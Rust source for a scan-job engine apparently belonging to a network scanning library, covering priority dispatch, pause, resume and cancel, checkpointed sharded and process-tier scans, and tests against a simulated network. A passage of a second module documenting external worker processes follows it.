    pub async fn wait(&self) -> Result<JobOutcome, JobError> {
        self.inner.wait(self.id).await
    }
}

impl<T: Transport + Clone + 'static> Inner<T> {
    /// Start queued jobs while active slots are free. Highest priority
    /// first; ties in submission order.
    fn dispatch(self: &Arc<Self>) {
        loop {
            if self.active.load(Ordering::SeqCst) >= self.config.max_active.max(1) {
                return;
            }
            let next = {
                let queue = self.queue.lock().expect("queue lock");
                let jobs = self.jobs.lock().expect("jobs lock");
                queue
                    .iter()
                    .copied()
                    .filter(|id| {
                        jobs.get(id)
                            .map(|j| j.state == JobState::Queued)
                            .unwrap_or(false)
                    })
                    .max_by_key(|id| {
                        let priority = jobs.get(id).map(|j| j.spec.priority).unwrap_or(0);
                        (priority, std::cmp::Reverse(*id))
                    })
            };
            let Some(id) = next else { return };
            self.queue.lock().expect("queue lock").retain(|q| *q != id);
            self.active.fetch_add(1, Ordering::SeqCst);
            let mut jobs = self.jobs.lock().expect("jobs lock");
            let Some(job) = jobs.get_mut(&id) else {
                drop(jobs);
                self.active.fetch_sub(1, Ordering::SeqCst);
                continue;
            };
            job.state = JobState::Running;
            job.state_tx.send_replace(JobState::Running);
            let engine = Arc::clone(self);
            job.task = Some(tokio::spawn(run_job(engine, JobId(id))));
        }
    }

    fn status(&self, id: JobId) -> Result<JobStatus, JobError> {
        let jobs = self.jobs.lock().expect("jobs lock");
        let job = jobs.get(&id.0).ok_or(JobError::UnknownJob(id))?;
        Ok(JobStatus {
            id,
            tenant: job.spec.tenant.clone(),
            state: job.state,
            batches_done: job.batches_done,
            rounds_done: job.rounds_done,
        })
    }

    fn note_batches(&self, id: JobId, batches_done: u64) {
        if let Some(job) = self.jobs.lock().expect("jobs lock").get_mut(&id.0) {
            job.batches_done = batches_done;
        }
    }

    fn note_progress(&self, id: JobId, report: &ScanReport, snapshot: TelemetrySnapshot) {
        if let Some(job) = self.jobs.lock().expect("jobs lock").get_mut(&id.0) {
            job.progress = Some(Box::new((report.clone(), snapshot)));
        }
    }

    fn resync(&self, id: JobId) -> Result<JobResync, JobError> {
        let jobs = self.jobs.lock().expect("jobs lock");
        let job = jobs.get(&id.0).ok_or(JobError::UnknownJob(id))?;
        let status = JobStatus {
            id,
            tenant: job.spec.tenant.clone(),
            state: job.state,
            batches_done: job.batches_done,
            rounds_done: job.rounds_done,
        };
        // Completed jobs snapshot from the outcome; live unsharded
        // scans from the per-batch progress cell.
        let (report, telemetry) = match (&job.outcome, &job.progress) {
            (Some(outcome), _) => (
                outcome.report().cloned().map(Box::new),
                Some(outcome.telemetry().clone()),
            ),
            (None, Some(progress)) => (
                Some(Box::new(progress.0.clone())),
                Some(progress.1.clone()),
            ),
            (None, None) => (None, None),
        };
        Ok(JobResync {
            status,
            report,
            telemetry,
        })
    }

    fn note_round(&self, id: JobId, rounds_done: u32) {
        if let Some(job) = self.jobs.lock().expect("jobs lock").get_mut(&id.0) {
            job.rounds_done = rounds_done;
        }
    }

    async fn pause(self: &Arc<Self>, id: JobId) -> Result<(), JobError> {
        enum PauseMode {
            Queued,
            Cooperative(watch::Receiver<JobState>),
            Abort(JoinHandle<()>),
        }
        let mode = {
            let mut jobs = self.jobs.lock().expect("jobs lock");
            let job = jobs.get_mut(&id.0).ok_or(JobError::UnknownJob(id))?;
            match (&job.spec.kind, &job.spec.checkpoint) {
                (JobKind::Observe(_), _) => {
                    return Err(JobError::NotPausable(
                        "observe jobs run to completion; cancel instead",
                    ))
                }
                (_, CheckpointPolicy::Disabled) => {
                    return Err(JobError::NotPausable(
                        "checkpointing is disabled for this job",
                    ))
                }
                _ => {}
            }
            match job.state {
                JobState::Queued => {
                    job.state = JobState::Paused;
                    self.counters.paused.incr();
                    job.state_tx.send_replace(JobState::Paused);
                    let _ = job.events.send(JobEvent::Paused {
                        job: id,
                        batches_done: job.batches_done,
                    });
                    PauseMode::Queued
                }
                JobState::Running => {
                    // Process-tier scans pause like sharded ones: abort
                    // the coordinator (killing its workers) and rely on
                    // the crash-safe shard files it wrote.
                    let sharded = matches!(
                        &job.spec.kind,
                        JobKind::Scan(scan)
                            if scan.shards.unwrap_or(1) > 1 || scan.workers.unwrap_or(0) > 0
                    );
                    if sharded {
                        match job.task.take() {
                            Some(handle) => {
                                handle.abort();
                                PauseMode::Abort(handle)
                            }
                            None => {
                                return Err(JobError::InvalidState {
                                    state: job.state,
                                    op: "pause",
                                })
                            }
                        }
                    } else {
                        job.pause_tx.send_replace(true);
                        PauseMode::Cooperative(job.state_tx.subscribe())
                    }
                }
                state => return Err(JobError::InvalidState { state, op: "pause" }),
            }
        };
        match mode {
            PauseMode::Queued => {
                self.queue.lock().expect("queue lock").retain(|q| *q != id.0);
                Ok(())
            }
            PauseMode::Cooperative(mut state_rx) => loop {
                let state = *state_rx.borrow_and_update();
                match state {
                    JobState::Paused => return Ok(()),
                    JobState::Running => {
                        if state_rx.changed().await.is_err() {
                            return Err(JobError::UnknownJob(id));
                        }
                    }
                    state => return Err(JobError::InvalidState { state, op: "pause" }),
                }
            },
            PauseMode::Abort(handle) => {
                let _ = handle.await;
                let parked = {
                    let mut jobs = self.jobs.lock().expect("jobs lock");
                    let job = jobs.get_mut(&id.0).ok_or(JobError::UnknownJob(id))?;
                    if job.state == JobState::Running {
                        // Shard workers checkpoint synchronously between
                        // awaits, so the abort left crash-safe files.
                        job.state = JobState::Paused;
                        job.resumed = true;
                        self.counters.paused.incr();
                        job.state_tx.send_replace(JobState::Paused);
                        let _ = job.events.send(JobEvent::Paused {
                            job: id,
                            batches_done: job.batches_done,
                        });
                        true
                    } else {
                        false
                    }
                };
                if parked {
                    self.active.fetch_sub(1, Ordering::SeqCst);
                    self.dispatch();
                    Ok(())
                } else {
                    // The job finished before the abort landed.
                    let state = self.status(id)?.state;
                    Err(JobError::InvalidState { state, op: "pause" })
                }
            }
        }
    }

    fn resume(self: &Arc<Self>, id: JobId) -> Result<(), JobError> {
        {
            let mut jobs = self.jobs.lock().expect("jobs lock");
            let job = jobs.get_mut(&id.0).ok_or(JobError::UnknownJob(id))?;
            match job.state {
                JobState::Paused => {
                    job.pause_tx.send_replace(false);
                    job.state = JobState::Queued;
                    self.counters.resumed.incr();
                    job.state_tx.send_replace(JobState::Queued);
                }
                state => return Err(JobError::InvalidState { state, op: "resume" }),
            }
        }
        self.queue.lock().expect("queue lock").push(id.0);
        self.dispatch();
        Ok(())
    }

    async fn cancel(self: &Arc<Self>, id: JobId) -> Result<(), JobError> {
        let (handle, checkpoint) = {
            let mut jobs = self.jobs.lock().expect("jobs lock");
            let job = jobs.get_mut(&id.0).ok_or(JobError::UnknownJob(id))?;
            if job.state.is_terminal() {
                return Err(JobError::InvalidState {
                    state: job.state,
                    op: "cancel",
                });
            }
            job.state = JobState::Cancelled;
            self.counters.cancelled.incr();
            job.state_tx.send_replace(JobState::Cancelled);
            let _ = job.events.send(JobEvent::Cancelled { job: id });
            (job.task.take(), job.checkpoint.clone())
        };
        self.queue.lock().expect("queue lock").retain(|q| *q != id.0);
        if let Some(handle) = handle {
            handle.abort();
            // Err means the task never reached its own slot bookkeeping
            // (aborted mid-run or panicked): release the slot here.
            // Ok means `run_job` completed and already released it.
            if handle.await.is_err() {
                self.active.fetch_sub(1, Ordering::SeqCst);
                self.dispatch();
            }
        }
        if let Some((path, _)) = checkpoint {
            remove_job_files(&path);
        }
        Ok(())
    }

    async fn wait(&self, id: JobId) -> Result<JobOutcome, JobError> {
        let mut state_rx = {
            let jobs = self.jobs.lock().expect("jobs lock");
            let job = jobs.get(&id.0).ok_or(JobError::UnknownJob(id))?;
            job.state_tx.subscribe()
        };
        loop {
            let state = *state_rx.borrow_and_update();
            if state.is_terminal() {
                let jobs = self.jobs.lock().expect("jobs lock");
                let job = jobs.get(&id.0).ok_or(JobError::UnknownJob(id))?;
                return match state {
                    JobState::Completed => {
                        Ok(job.outcome.clone().expect("completed job has an outcome"))
                    }
                    JobState::Cancelled => Err(JobError::Cancelled(id)),
                    _ => Err(JobError::Failed(
                        job.error.clone().unwrap_or_else(|| "unknown failure".into()),
                    )),
                };
            }
            if state_rx.changed().await.is_err() {
                return Err(JobError::Failed("engine dropped the job".into()));
            }
        }
    }
}

/// How one attempt (spawn-to-park) of a job ended.
#[allow(clippy::large_enum_variant)]
enum DriveEnd {
    Completed(JobOutcome),
    Paused { batches_done: u64 },
    Failed(String),
}

/// One finished or parked scan round.
#[allow(clippy::large_enum_variant)]
enum ScanRun {
    Finished {
        report: ScanReport,
        telemetry: TelemetrySnapshot,
    },
    Paused {
        batches_done: u64,
    },
}

/// The spawned job task: run the spec, then record the outcome and free
/// the active slot.
async fn run_job<T>(inner: Arc<Inner<T>>, id: JobId)
where
    T: Transport + Clone + 'static,
{
    let params = {
        let jobs = inner.jobs.lock().expect("jobs lock");
        jobs.get(&id.0).map(|job| {
            (
                job.spec.clone(),
                job.events.clone(),
                job.pause_tx.subscribe(),
                job.pacer.clone(),
                job.checkpoint.clone(),
                job.resumed || job.resume_spec,
                job.rounds_done,
            )
        })
    };
    let Some((spec, events, mut pause_rx, pacer, checkpoint, pickup, rounds_done)) = params
    else {
        inner.active.fetch_sub(1, Ordering::SeqCst);
        inner.dispatch();
        return;
    };

    let end = match &spec.kind {
        JobKind::Scan(scan) => {
            drive_scan(
                &inner,
                id,
                scan,
                spec.recurrence,
                &events,
                &mut pause_rx,
                pacer,
                checkpoint,
                pickup,
                rounds_done,
            )
            .await
        }
        JobKind::Observe(observe) => {
            drive_observe(&inner, id, observe, spec.recurrence, &events).await
        }
    };

    finish(&inner, id, end);
    inner.active.fetch_sub(1, Ordering::SeqCst);
    inner.dispatch();
}

/// Record a finished attempt. Skipped entirely when the job was
/// cancelled concurrently (cancel already did the bookkeeping).
fn finish<T>(inner: &Arc<Inner<T>>, id: JobId, end: DriveEnd)
where
    T: Transport + Clone + 'static,
{
    let mut jobs = inner.jobs.lock().expect("jobs lock");
    let Some(job) = jobs.get_mut(&id.0) else { return };
    if job.state == JobState::Cancelled {
        return;
    }
    match end {
        DriveEnd::Completed(outcome) => {
            inner.telemetry.absorb(outcome.telemetry());
            inner.counters.completed.incr();
            job.outcome = Some(outcome.clone());
            job.state = JobState::Completed;
            job.state_tx.send_replace(JobState::Completed);
            let _ = job.events.send(JobEvent::Completed {
                job: id,
                outcome: Box::new(outcome),
            });
        }
        DriveEnd::Paused { batches_done } => {
            job.batches_done = batches_done;
            job.resumed = true;
            job.state = JobState::Paused;
            inner.counters.paused.incr();
            job.state_tx.send_replace(JobState::Paused);
            let _ = job.events.send(JobEvent::Paused {
                job: id,
                batches_done,
            });
        }
        DriveEnd::Failed(error) => {
            inner.counters.failed.incr();
            job.error = Some(error.clone());
            job.state = JobState::Failed;
            job.state_tx.send_replace(JobState::Failed);
            let _ = job.events.send(JobEvent::Failed { job: id, error });
        }
    }
    job.task = None;
}

/// Run a scan job's rounds. A recurring scan re-runs the full scan each
/// round, deleting checkpoint files between rounds so every round
/// starts fresh; the outcome is the final round's.
#[allow(clippy::too_many_arguments)]
async fn drive_scan<T>(
    inner: &Arc<Inner<T>>,
    id: JobId,
    scan: &ScanSpec,
    recurrence: Recurrence,
    events: &broadcast::Sender<JobEvent>,
    pause_rx: &mut watch::Receiver<bool>,
    pacer: Option<SharedPacer>,
    checkpoint: Option<(PathBuf, u64)>,
    pickup: bool,
    rounds_done: u32,
) -> DriveEnd
where
    T: Transport + Clone + 'static,
{
    let (every_secs, total_rounds) = match recurrence {
        Recurrence::Once => (0, 1),
        Recurrence::Repeat { every_secs, rounds } => (every_secs, rounds.max(1)),
    };
    let mut builder = scan.to_builder();
    if let Some((_, every)) = &checkpoint {
        builder = builder.checkpoint_every((*every).max(1));
    }
    let config = builder.build();
    let pacer = pacer.filter(|p| p.is_limiting());

    let mut resuming = pickup;
    let mut round = rounds_done;
    let mut last: Option<(ScanReport, TelemetrySnapshot)> = None;
    while round < total_rounds {
        if round > rounds_done {
            resuming = false;
            if every_secs > 0 {
                tokio::time::sleep(Duration::from_secs(every_secs)).await;
            }
        }
        if resuming {
            let _ = events.send(JobEvent::Resumed { job: id });
        } else {
            if let Some((path, _)) = &checkpoint {
                remove_job_files(path);
            }
            let _ = events.send(JobEvent::Started {
                job: id,
                round: round + 1,
            });
        }
        // A resume routes through the shard orchestrator whenever shard
        // files exist, even at shards == 1 (mirrors `Pipeline::resume`).
        let sharded = config.shards > 1
            || (resuming
                && checkpoint
                    .as_ref()
                    .map(|(p, _)| !existing_shard_files(p).is_empty())
                    .unwrap_or(false));
        // The process tier takes precedence: its shard files resume
        // through it, not the in-process orchestrator, though either
        // would produce the same bytes. The job's pacer chain cannot
        // cross the process boundary — workers self-pace from the spec.
        let process_workers = scan.workers.unwrap_or(0);
        let result = if process_workers > 0 {
            match &inner.config.worker_launch {
                Some(launch) => {
                    run_scan_process(
                        &config,
                        scan,
                        launch,
                        process_workers,
                        checkpoint.as_ref().map(|(p, _)| p.as_path()),
                        resuming,
                    )
                    .await
                }
                None => {
                    return DriveEnd::Failed(
                        "scan requests external workers but the engine has no \
                         worker_launch configured"
                            .into(),
                    )
                }
            }
        } else if sharded {
            run_scan_sharded(
                inner,
                &config,
                pacer.as_ref(),
                checkpoint.as_ref().map(|(p, _)| p.as_path()),
                resuming,
            )
            .await
        } else {
            run_scan_streamed(
                inner,
                id,
                &config,
                pacer.as_ref(),
                checkpoint.as_ref(),
                resuming,
                events,
                pause_rx,
            )
            .await
        };
        match result {
            Ok(ScanRun::Finished { report, telemetry }) => {
                round += 1;
                inner.note_round(id, round);
                last = Some((report, telemetry));
            }
            Ok(ScanRun::Paused { batches_done }) => {
                return DriveEnd::Paused { batches_done };
            }
            Err(e) => return DriveEnd::Failed(e.to_string()),
        }
    }
    match last {
        Some((report, telemetry)) => {
            DriveEnd::Completed(JobOutcome::Scan { report, telemetry })
        }
        None => DriveEnd::Failed("scan job ran zero rounds".into()),
    }
}

/// One unsharded scan round: a faithful mirror of the checkpointed
/// pipeline loop, plus per-batch events and a cooperative pause.
///
/// Per-batch deltas are processed into a *fresh* report and absorbed
/// into the cumulative one — the single-batch case of the shard
/// orchestrator's segment merge, which the shard suite proves
/// byte-identical to in-place accumulation.
#[allow(clippy::too_many_arguments)]
async fn run_scan_streamed<T>(
    inner: &Arc<Inner<T>>,
    id: JobId,
    config: &PipelineConfig,
    pacer: Option<&SharedPacer>,
    checkpoint: Option<&(PathBuf, u64)>,
    resuming: bool,
    events: &broadcast::Sender<JobEvent>,
    pause_rx: &mut watch::Receiver<bool>,
) -> Result<ScanRun, PipelineError>
where
    T: Transport + Clone + 'static,
{
    let telemetry = Telemetry::new();
    let fingerprint = ConfigFingerprint::of(config);
    let mut report = ScanReport::default();
    let mut first_batch = 0u64;
    if resuming {
        if let Some((path, _)) = checkpoint {
            if path.exists() {
                let prior = ScanCheckpoint::load(path)?;
                prior.validate(&fingerprint)?;
                telemetry.absorb(&prior.telemetry);
                if prior.finished {
                    // Warm resume: the stored prefix is the whole run.
                    return Ok(ScanRun::Finished {
                        report: prior.report,
                        telemetry: telemetry.snapshot(),
                    });
                }
                report = prior.report;
                first_batch = prior.batches_done;
            }
        }
    }

    let processor = BatchProcessor::new(config, &telemetry);
    let retrying = inner.client.with_transport(RetryTransport::new(
        inner.client.transport().clone(),
        config.retry.clone(),
        &telemetry,
    ));
    // The sweep records into a private staging registry; each batch
    // message carries the staging delta, absorbed only when that batch
    // is processed (the checkpoint byte-identity invariant).
    let staging = Telemetry::new();
    let mut scanner = PortScanner::with_telemetry(config.portscan.clone(), &staging);
    if let Some(pacer) = pacer {
        scanner = scanner.with_shared_pacer(pacer.clone());
    }
    let sweep_transport = RetryTransport::new(
        inner.client.transport().clone(),
        config.retry.clone(),
        &staging,
    );
    let blocks_per_batch = config.blocks_per_batch;
    let (tx, mut rx) = mpsc::channel(config.parallelism.max(2));
    let sweep_staging = staging.clone();
    let sweep = tokio::spawn(async move {
        scanner
            .scan_stream_staged(
                &sweep_transport,
                blocks_per_batch,
                first_batch,
                &sweep_staging,
                tx,
            )
            .await
    });

    let every = checkpoint.map(|(_, every)| (*every).max(1));
    let mut prev = telemetry.snapshot();
    let mut batches_done = first_batch;
    let mut pause_alive = true;
    let mut pausing = false;
    loop {
        let msg = tokio::select! {
            biased;
            changed = pause_rx.changed(), if pause_alive => {
                match changed {
                    Ok(()) => {
                        if *pause_rx.borrow_and_update() {
                            pausing = true;
                            break;
                        }
                        continue;
                    }
                    Err(_) => {
                        pause_alive = false;
                        continue;
                    }
                }
            }
            msg = rx.recv() => match msg {
                Some(msg) => msg,
                None => break,
            },
        };
        match msg {
            SweepMsg::Batch { seq, batch, delta } => {
                debug_assert_eq!(seq, batches_done, "batches must arrive in sweep order");
                telemetry.absorb(&delta);
                let mut batch_report = ScanReport::default();
                BatchProcessor::accumulate_sweep_counts(&mut batch_report, &batch);
                processor
                    .process_batch(&retrying, batch, &mut batch_report)
                    .await;
                report.absorb(batch_report.clone());
                batches_done = seq + 1;
                inner.counters.batches.incr();
                inner.note_batches(id, batches_done);
                let snapshot = telemetry.snapshot();
                let event_delta = snapshot.delta_since(&prev);
                inner.note_progress(id, &report, snapshot.clone());
                prev = snapshot;
                let _ = events.send(JobEvent::Batch {
                    job: id,
                    seq,
                    delta: Box::new(batch_report),
                    telemetry: event_delta,
                });
                if let (Some(every), Some((path, _))) = (every, checkpoint) {
                    if batches_done % every == 0 {
                        // Synchronous write between awaits: abort-safe.
                        write_checkpoint(
                            path,
                            &fingerprint,
                            batches_done,
                            false,
                            &report,
                            &telemetry,
                        )?;
                        let _ = events.send(JobEvent::Checkpointed {
                            job: id,
                            batches_done,
                        });
                    }
                }
                // A pause requested before this task subscribed never
                // fires `changed`; the level check catches it.
                if pause_alive && *pause_rx.borrow() {
                    pausing = true;
                    break;
                }
            }
            SweepMsg::Epilogue { delta } => telemetry.absorb(&delta),
        }
    }
    if pausing {
        // Stop at this batch boundary: the sweep task exits cleanly once
        // the channel closes, and the checkpoint we write is exactly the
        // one an uninterrupted run would have written here.
        drop(rx);
        sweep.abort();
        let _ = sweep.await;
        if let Some((path, _)) = checkpoint {
            write_checkpoint(path, &fingerprint, batches_done, false, &report, &telemetry)?;
        }
        return Ok(ScanRun::Paused { batches_done });
    }
    sweep
        .await
        .map_err(|e| PipelineError::SweepFailed(e.to_string()))?;
    if let Some((path, _)) = checkpoint {
        write_checkpoint(path, &fingerprint, batches_done, true, &report, &telemetry)?;
    }
    Ok(ScanRun::Finished {
        report,
        telemetry: telemetry.snapshot(),
    })
}

/// One sharded scan round through the work-stealing orchestrator, with
/// the job's pacer chain injected so every worker draws from the
/// tenant budget.
async fn run_scan_sharded<T>(
    inner: &Arc<Inner<T>>,
    config: &PipelineConfig,
    pacer: Option<&SharedPacer>,
    path: Option<&Path>,
    resuming: bool,
) -> Result<ScanRun, PipelineError>
where
    T: Transport + Clone + 'static,
{
    let telemetry = Telemetry::new();
    let resume = resuming
        && path
            .map(|p| p.exists() || !existing_shard_files(p).is_empty())
            .unwrap_or(false);
    let (report, _stats) = crate::shard::run_sharded(
        config,
        &telemetry,
        &inner.client,
        path,
        resume,
        pacer.cloned(),
    )
    .await?;
    Ok(ScanRun::Finished {
        report,
        telemetry: telemetry.snapshot(),
    })
}

/// One process-tier scan round: lease batch ranges to external
/// `nokeys-worker` processes and merge their streamed segments. Same
/// resume semantics as the sharded round — the coordinator writes the
/// same per-shard files — so a pause-as-abort resumes seamlessly.
async fn run_scan_process(
    config: &PipelineConfig,
    scan: &ScanSpec,
    launch: &WorkerLaunch,
    workers: usize,
    path: Option<&Path>,
    resuming: bool,
) -> Result<ScanRun, PipelineError> {
    let telemetry = Telemetry::new();
    let resume = resuming
        && path
            .map(|p| p.exists() || !existing_shard_files(p).is_empty())
            .unwrap_or(false);
    let (report, _stats) = crate::jobs::process::run_process_tier(
        config, scan, launch, workers, &telemetry, path, resume,
    )
    .await?;
    Ok(ScanRun::Finished {
        report,
        telemetry: telemetry.snapshot(),
    })
}

/// Run an observe job. [`Recurrence::Once`] is the classic full-window
/// study; [`Recurrence::Repeat`] performs one observation round per
/// tick, extending the accumulated study incrementally. All rounds
/// charge one job registry, so the final snapshot reconciles with a
/// direct `observe_instrumented` + `observe_incremental` sequence.
async fn drive_observe<T>(
    inner: &Arc<Inner<T>>,
    id: JobId,
    observe: &ObserveSpec,
    recurrence: Recurrence,
    events: &broadcast::Sender<JobEvent>,
) -> DriveEnd
where
    T: Transport + Clone + 'static,
{
    let telemetry = Telemetry::new();
    let defaults = ObserverConfig::default();
    let interval = observe.interval_secs.max(1);
    let mut config = ObserverConfig {
        interval_secs: interval,
        window_secs: observe.window_secs.max(0),
        terminal_offline_after: observe
            .terminal_offline_after
            .unwrap_or(defaults.terminal_offline_after),
    };
    let mut advance = |secs: i64| {
        if let Some(clock) = inner.clock.lock().expect("clock lock").as_mut() {
            clock(secs);
        }
    };
    let _ = events.send(JobEvent::Started { job: id, round: 1 });

    match recurrence {
        Recurrence::Once => {
            let study = observe_instrumented(
                &telemetry,
                &inner.client,
                &observe.findings,
                &config,
                &mut advance,
            )
            .await;
            inner.counters.rounds.incr();
            inner.note_round(id, 1);
            let _ = events.send(JobEvent::Round {
                job: id,
                round: 1,
                study: Box::new(study.clone()),
                delta: Box::new(RescanDelta::default()),
            });
            DriveEnd::Completed(JobOutcome::Observe {
                study,
                telemetry: telemetry.snapshot(),
            })
        }
        Recurrence::Repeat { every_secs, rounds } => {
            let rounds = rounds.max(1);
            // Round 1 observes t=0 only; each later round extends the
            // window by one interval and rescans incrementally.
            config.window_secs = 0;
            let mut study = observe_instrumented(
                &telemetry,
                &inner.client,
                &observe.findings,
                &config,
                &mut advance,
            )
            .await;
            inner.counters.rounds.incr();
            inner.note_round(id, 1);
            let _ = events.send(JobEvent::Round {
                job: id,
                round: 1,
                study: Box::new(study.clone()),
                delta: Box::new(RescanDelta::default()),
            });
            for round in 2..=rounds {
                if every_secs > 0 {
                    tokio::time::sleep(Duration::from_secs(every_secs)).await;
                }
                config.window_secs = interval * i64::from(round - 1);
                let (next, delta) = observe_incremental(
                    &telemetry,
                    &inner.client,
                    study,
                    &config,
                    &mut advance,
                )
                .await;
                study = next;
                inner.counters.rounds.incr();
                inner.note_round(id, round);
                let _ = events.send(JobEvent::Round {
                    job: id,
                    round,
                    study: Box::new(study.clone()),
                    delta: Box::new(delta),
                });
            }
            DriveEnd::Completed(JobOutcome::Observe {
                study,
                telemetry: telemetry.snapshot(),
            })
        }
    }
}

fn write_checkpoint(
    path: &Path,
    fingerprint: &ConfigFingerprint,
    batches_done: u64,
    finished: bool,
    report: &ScanReport,
    telemetry: &Telemetry,
) -> Result<(), PipelineError> {
    ScanCheckpoint {
        format: CHECKPOINT_FORMAT,
        fingerprint: fingerprint.clone(),
        batches_done,
        finished,
        report: report.clone(),
        telemetry: telemetry.snapshot(),
    }
    .save(path)?;
    Ok(())
}

/// Remove a job's checkpoint file and any per-shard worker files.
fn remove_job_files(path: &Path) {
    let _ = std::fs::remove_file(path);
    for file in existing_shard_files(path) {
        let _ = std::fs::remove_file(&file);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::Pipeline;
    use nokeys_netsim::{SimTransport, Universe, UniverseConfig};

    fn universe() -> Arc<Universe> {
        Arc::new(Universe::generate(UniverseConfig::tiny(42)))
    }

    fn targets() -> Vec<crate::portscan::Cidr> {
        vec![UniverseConfig::tiny(42).space]
    }

    fn scan_spec(tenant: &str, parallelism: usize) -> JobSpec {
        let mut spec = ScanSpec::new(targets());
        spec.parallelism = Some(parallelism);
        JobSpec::scan(tenant, spec)
    }

    fn small_engine(client: Client<SimTransport>) -> JobEngine<SimTransport> {
        let config = EngineConfig {
            max_active: 1,
            ..EngineConfig::default()
        };
        JobEngine::with_config(client, config)
    }

    /// A scan submitted through the engine is byte-identical to the
    /// same configuration driven directly through `Pipeline::run`.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn engine_scan_matches_direct_pipeline() {
        let universe = universe();
        let client = Client::new(SimTransport::new(Arc::clone(&universe)));

        let direct_telemetry = Telemetry::new();
        let config = ScanSpec::new(targets())
            .to_builder()
            .telemetry(direct_telemetry.clone())
            .build();
        let direct = Pipeline::new(config)
            .run(&client)
            .await
            .expect("direct run");

        let engine = JobEngine::new(client);
        let mut spec = scan_spec("t0", 8);
        spec.checkpoint = CheckpointPolicy::Disabled;
        let handle = engine.submit(spec);
        let outcome = handle.wait().await.expect("job completes");
        assert_eq!(outcome.report(), Some(&direct));
        assert_eq!(outcome.telemetry(), &direct_telemetry.snapshot());
        assert_eq!(
            handle.status().expect("status").state,
            JobState::Completed
        );
    }

    /// Cancelling a queued job never runs it; its terminal state is
    /// Cancelled and `wait` reports the cancellation.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn cancel_queued_job_before_it_runs() {
        let universe = universe();
        let client = Client::new(SimTransport::new(Arc::clone(&universe)));
        let engine = small_engine(client);

        let running = engine.submit(scan_spec("t0", 2));
        let queued = engine.submit(scan_spec("t0", 2));
        queued.cancel().await.expect("cancel queued job");
        assert!(matches!(
            queued.wait().await,
            Err(JobError::Cancelled(_))
        ));
        assert!(running.wait().await.is_ok());
        let err = queued.cancel().await.expect_err("double cancel rejected");
        assert!(matches!(
            err,
            JobError::InvalidState {
                state: JobState::Cancelled,
                ..
            }
        ));
    }

    /// Observe jobs and checkpoint-disabled jobs refuse to pause.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn pause_requires_checkpointing() {
        let universe = universe();
        let client = Client::new(SimTransport::new(Arc::clone(&universe)));
        let engine = small_engine(client);

        let blocker = engine.submit(scan_spec("t0", 2));
        let mut unpausable = scan_spec("t0", 2);
        unpausable.checkpoint = CheckpointPolicy::Disabled;
        let handle = engine.submit(unpausable);
        assert!(matches!(
            handle.pause().await,
            Err(JobError::NotPausable(_))
        ));
        assert!(blocker.wait().await.is_ok());
        assert!(handle.wait().await.is_ok());
    }

    /// Queued jobs dispatch by priority, ties in submission order.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn priority_orders_the_queue() {
        let universe = universe();
        let client = Client::new(SimTransport::new(Arc::clone(&universe)));
        let engine = small_engine(client);

        let first = engine.submit(scan_spec("t0", 2));
        let low = engine.submit(scan_spec("t0", 2));
        let mut urgent_spec = scan_spec("t0", 2);
        urgent_spec.priority = 5;
        let urgent = engine.submit(urgent_spec);

        first.wait().await.expect("first job");
        urgent.wait().await.expect("urgent job");
        // The urgent job must have completed while the low-priority one
        // was still queued or just dispatched — never after it finished.
        let low_state = low.status().expect("status").state;
        assert_ne!(low_state, JobState::Completed, "urgent job overtook");
        low.wait().await.expect("low job");
        assert_eq!(engine.jobs().len(), 3);
        let snapshot = engine.metrics();
        assert_eq!(snapshot.counter("engine.jobs.submitted"), 3);
        assert_eq!(snapshot.counter("engine.jobs.completed"), 3);
    }
}
