//! Process tier: external `nokeys-worker` processes driven over NDJSON
//! pipes — the out-of-process mirror of the in-process shard tier.
//!
//! The coordinator leases contiguous batch ranges to worker processes
//! ([`wire::WorkerCommand::Lease`]), each worker runs the shard
//! pipeline over its lease and streams serialized
//! [`ShardSegment`](crate::shard::ShardSegment) partials back
//! ([`wire::WorkerReply::Segment`]). Because both tiers reduce through
//! the same order-independent [`merge_segments`] and share the same
//! per-shard checkpoint files, the merged report and telemetry are
//! **byte-identical** to a single-process run of the same spec at any
//! worker count — including runs where a worker is killed mid-scan and
//! its unfinished lease is re-issued.
//!
//! Design points, mirroring the in-process [`WorkQueue`]:
//!
//! * **Steal-on-straggle** — when a worker goes idle with no pending
//!   ranges, the coordinator revokes the tail half of the largest
//!   active lease ([`wire::WorkerCommand::Revoke`]) and re-leases it
//!   once the victim reports where it actually stopped.
//! * **Loss detection** — a worker whose pipe goes quiet past the
//!   heartbeat timeout (or closes outright) is killed; its unscanned
//!   lease tail `[confirmed, end)` re-enters the pending queue and a
//!   fresh process is spawned into the slot, up to a respawn budget.
//! * **Coordinator-owned persistence** — workers never touch the
//!   filesystem. The coordinator writes each slot's confirmed segments
//!   to the same `<base>.shard-<slot>` files the in-process tier uses,
//!   so a killed *coordinator* resumes through the identical
//!   [`load_resume_state`] path, sharded or process-tiered.
//!
//! What does **not** cross the process boundary is the job→tenant→
//! global pacer chain: each worker self-paces from the spec's rate, so
//! `N` workers honor `N×` the configured ceiling. Pacing is virtual
//! waiting time and never changes report bytes.
//!
//! [`WorkQueue`]: crate::shard
//! [`merge_segments`]: crate::shard::merge_segments
//! [`load_resume_state`]: crate::shard
//! [`wire::WorkerCommand::Lease`]: super::wire::WorkerCommand::Lease
//! [`wire::WorkerCommand::Revoke`]: super::wire::WorkerCommand::Revoke
//! [`wire::WorkerReply::Segment`]: super::wire::WorkerReply::Segment

use super::wire::{WorkerCommand, WorkerReply};
use super::ScanSpec;
use crate::checkpoint::ConfigFingerprint;
use crate::pipeline::{PipelineConfig, PipelineError};
use crate::report::ScanReport;
use crate::shard::{
    check_full_coverage, clear_checkpoint_files, complement, finalize_checkpoint,
    load_resume_state, merge_segments, plan_initial_ranges, shard_worker_path, total_batches,
    ResumeState, ShardCheckpoint, ShardSegment, ShardStats, SHARD_CHECKPOINT_FORMAT,
};
use crate::telemetry::Telemetry;
use serde::{Deserialize, Serialize};
use std::collections::VecDeque;
use std::io::{BufRead, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::time::{Duration, Instant};
use tokio::sync::mpsc;

/// How the engine launches external scan workers. Set on
/// [`EngineConfig::worker_launch`](super::EngineConfig) to enable
/// process-tier scans (`ScanSpec::workers > 0`).
#[derive(Debug, Clone)]
#[non_exhaustive]
